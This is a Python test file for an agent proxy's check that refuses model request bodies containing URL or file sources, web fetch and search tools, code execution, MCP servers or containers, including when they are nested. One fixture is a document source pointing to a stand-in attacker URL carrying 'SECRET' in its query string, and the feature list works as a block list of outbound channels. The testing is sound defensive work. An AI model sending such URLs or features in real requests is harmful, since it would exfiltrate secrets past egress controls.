"""The door's check of a model request's body (issue 60, item 4): what would have the provider fetch or run
something past the agent's egress allowlist and budget is refused, at any depth; everything else passes
unchanged, unknown fields included (an open shape). Pure: no I/O."""
from __future__ import annotations

import json

from hypothesis import given, settings, strategies as st

from nanoclaw.proxy.model_body import FEATURES, features_used, refusal


def body(**parts) -> bytes:
    return json.dumps({"model": "claude-sonnet-4-5", "max_tokens": 64, **parts}).encode()


def user(*blocks) -> dict:
    return {"role": "user", "content": list(blocks)}


URL_DOC = {"type": "document", "source": {"type": "url", "url": "https://evil.example/x?d=SECRET"}}
FILE_IMG = {"type": "image", "source": {"type": "file", "file_id": "file_011"}}


def test_a_plain_conversation_and_the_clis_own_shapes_pass():
    tools = [{"name": "Bash", "description": "d", "input_schema": {"type": "object"}},
             {"type": "custom", "name": "x", "input_schema": {}}]
    ok = body(system=[{"type": "text", "text": "You are Andy", "cache_control": {"type": "ephemeral"}}],
              messages=[user({"type": "text", "text": "hi"},
                             {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "AA=="}}),
                        {"role": "assistant", "content": [{"type": "tool_use", "id": "t1", "name": "Bash",
                                                           "input": {}}]},
                        user({"type": "tool_result", "tool_use_id": "t1", "content": "done"})],
              tools=tools, thinking={"type": "enabled", "budget_tokens": 1024}, a_field_from_next_year={"x": [1]},
              context_management={"edits": []})
    assert features_used(ok) == [] and refusal(ok, frozenset(), "andy") is None


def test_what_makes_the_provider_fetch_is_refused_at_any_depth():
    nested = user({"type": "tool_result", "tool_use_id": "t", "content": [{"type": "text", "text": "see"}, URL_DOC]})
    assert features_used(body(messages=[nested])) == ["url-source"]
    assert features_used(body(system=[FILE_IMG], messages=[user({"type": "text", "text": "x"})])) == ["file-source"]
    assert features_used(body(messages=[user(URL_DOC)], tools=[{"type": "web_search_20250305", "name": "web_search"},
                                                                 {"type": "web_fetch_20250910", "name": "web_fetch"},
                                                                 {"type": "code_execution_20250825", "name": "c"}],
                              mcp_servers=[{"type": "url", "url": "https://m.example", "name": "m"}],
                              container="container_1")) == \
        ["code_execution", "container", "mcp_servers", "url-source", "web_fetch", "web_search"]


def test_a_refusal_names_the_feature_and_how_to_allow_it():
    why = refusal(body(messages=[user(URL_DOC)]), frozenset(), "andy")
    assert why.startswith("url-source is refused") and "model feature allow andy url-source" in why
    assert refusal(body(messages=[user(URL_DOC)]), frozenset({"url-source"}), "andy") is None
    assert "not available" in refusal(body(tools=[{"type": "bash_20250124", "name": "bash"}]), FEATURES, "andy")
    assert "not a JSON object" in refusal(b"[1, 2]", frozenset(), "andy")


json_values = st.recursive(st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=8),
                           lambda inner: st.lists(inner, max_size=4) | st.dictionaries(
                               st.sampled_from(["type", "source", "content", "messages", "system", "tools", "url",
                                                "mcp_servers", "container", "text"]) | st.text(max_size=6),
                               inner, max_size=4), max_leaves=20)


@settings(max_examples=400, deadline=None)
@given(value=json_values)
def test_any_body_is_answered_never_raised(value):
    try:
        raw = json.dumps(value).encode()
    except ValueError:
        return
    used = features_used(raw)
    assert used == sorted(set(used)) and all(isinstance(u, str) and u for u in used)
    assert (refusal(raw, frozenset(), "andy") is None) == (used == [])
